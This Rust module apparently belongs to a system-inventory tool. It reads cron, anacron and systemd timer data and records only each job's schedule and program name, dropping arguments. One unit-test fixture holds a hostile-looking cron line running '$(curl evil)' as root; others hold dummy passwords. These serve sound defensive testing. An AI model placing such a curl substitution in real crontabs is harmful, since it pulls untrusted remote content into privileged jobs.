//! Jobs that run by the clock: when, and which program; never with what arguments.

use std::collections::BTreeMap;

use super::answer::Answer;
use super::{Notes, number};

/// Words before the program that a job really runs.
const BEFORE: [&str; 14] = [
    "sudo", "nice", "ionice", "env", "exec", "nohup", "flock", "timeout", "if", "then", "root", "test", "[", "cd",
];

pub(super) fn note(answer: &Answer<'_>, notes: &mut Notes<'_>) {
    let mut jobs: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for file in ["/etc/crontab", "/etc/anacrontab", "/etc/cron.d/", "/var/spool/cron/"] {
        for (path, lines) in answer.starting(file) {
            for (schedule, program) in lines.iter().take(200).filter_map(|line| crontab(path, line)) {
                let name = path.rsplit('/').next().unwrap_or_default();
                let schedules = jobs.entry(format!("{name} {program}")).or_default();
                if !schedules.contains(&schedule) {
                    schedules.push(schedule);
                }
            }
        }
    }
    for (job, schedules) in jobs {
        notes.of("job.schedule", &job, schedules.join("; "), "crontab");
    }
    for line in answer.lines("periodic") {
        if let Some((period, name)) = line.trim().split_once('/') {
            let schedule = match period {
                "hourly" => "@hourly",
                "daily" => "@daily",
                "weekly" => "@weekly",
                "monthly" => "@monthly",
                _ => continue,
            };
            notes.of(
                "job.schedule",
                &format!("cron.{period} {name}"),
                schedule,
                "/etc/cron.*",
            );
        }
    }
    timers(answer, notes);
}

/// Reads `17 * * * * root cd / && run-parts …`; only system files name the account.
fn crontab(path: &str, line: &str) -> Option<(String, String)> {
    let line = line.trim();
    let mut words = line.split_whitespace();
    let has_account = path == "/etc/crontab" || path.starts_with("/etc/cron.d/");
    let schedule = if path == "/etc/anacrontab" {
        // Period in days or by name, delay in minutes, name of the job.
        let period = words.next()?;
        words.nth(1)?;
        match number(period) {
            Some(days) => format!("every {days} days"),
            None => period.to_string(),
        }
    } else if line.starts_with('@') {
        words.next()?.to_string()
    } else {
        let fields: Vec<&str> = words.by_ref().take(5).collect();
        let plain = |field: &&str| {
            field
                .bytes()
                .all(|byte| byte.is_ascii_alphanumeric() || b"*/,-~?#".contains(&byte))
        };
        (fields.len() == 5 && fields.iter().all(plain)).then(|| fields.join(" "))?
    };
    if has_account {
        words.next()?;
    }
    Some((schedule, program(words)))
}

/// Names the program of a command: the last of its parts whose program is not only a check; no argument, no path.
fn program<'a>(words: impl Iterator<Item = &'a str>) -> String {
    let command: Vec<&str> = words.take(200).collect();
    let mut found = None;
    for part in command.split(|word| ["&&", "||", ";", "|"].contains(word)) {
        let first = part.iter().map(|word| word.trim_end_matches(';')).find(|word| {
            let name = word.rsplit('/').next().unwrap_or_default();
            !word.contains('=') && !word.starts_with('-') && !BEFORE.contains(&name)
        });
        // A check such as `[ -x /usr/sbin/x ]` or `cd /` comes first and names no program of its own.
        let is_check = part
            .first()
            .is_some_and(|word| ["[", "test", "cd", "command", "true"].contains(word));
        if let Some(word) = first.filter(|_| !is_check) {
            found = found.or(Some(word));
        }
    }
    let name = found.and_then(|word| word.rsplit('/').next()).unwrap_or_default();
    let plain = (1..=64).contains(&name.len())
        && name
            .bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || b"._+-".contains(&byte));
    if plain { name.to_string() } else { "command".to_string() }
}

/// Reads blocks of `TimersCalendar={ OnCalendar=… ; next_elapse=… }`, `TimersMonotonic=…` and `Id=…`.
fn timers(answer: &Answer<'_>, notes: &mut Notes<'_>) {
    let mut schedules: Vec<&str> = Vec::new();
    let mut id = None;
    let mut finish = |id: &mut Option<&str>, schedules: &mut Vec<&str>| {
        if let Some(id) = id.take() {
            notes.of("job.schedule", id, schedules.join("; "), "systemctl show");
        }
        schedules.clear();
    };
    for line in answer.lines("timer") {
        match line.split_once('=') {
            Some(("Id", name)) => {
                if id.is_some() {
                    finish(&mut id, &mut schedules);
                }
                id = Some(name.trim());
            }
            Some(("TimersCalendar" | "TimersMonotonic", value)) => {
                let schedule = value.trim().trim_start_matches("{ ").split(" ; ").next();
                schedules.extend(schedule.filter(|schedule| !schedule.is_empty() && schedules.len() < 8));
            }
            _ if line.trim().is_empty() => finish(&mut id, &mut schedules),
            _ => {}
        }
    }
    finish(&mut id, &mut schedules);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_job_is_its_schedule_and_its_program() {
        let job = |path, line| crontab(path, line).map(|(schedule, program)| format!("{schedule} -> {program}"));
        for (path, line, wanted) in [
            (
                "/etc/crontab",
                "17 * * * * root cd / && run-parts --report /etc/cron.hourly",
                "17 * * * * -> run-parts",
            ),
            (
                "/etc/cron.d/backup",
                "0 2 * * 7 postgres PGPASSWORD=hunter2 /usr/bin/pg_dumpall --password=x | gzip",
                "0 2 * * 7 -> pg_dumpall",
            ),
            (
                "/etc/cron.d/e2scrub",
                "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/e2fsprogs/e2scrub_all_cron",
                "30 3 * * 0 -> e2scrub_all_cron",
            ),
            (
                "/var/spool/cron/crontabs/app",
                "@daily /opt/app/bin/report.sh s3cret",
                "@daily -> report.sh",
            ),
            (
                "/etc/anacrontab",
                "7 10 cron.weekly run-parts /etc/cron.weekly",
                "every 7 days -> run-parts",
            ),
            (
                "/etc/cron.d/odd",
                "*/5 * * * * root $(curl evil)",
                "*/5 * * * * -> command",
            ),
        ] {
            assert_eq!(job(path, line).as_deref(), Some(wanted), "{line}");
        }
        assert_eq!(job("/etc/crontab", "* * *"), None);
        assert_eq!(job("/etc/crontab", "\u{1b}[2J * * * * root x"), None);
    }
}
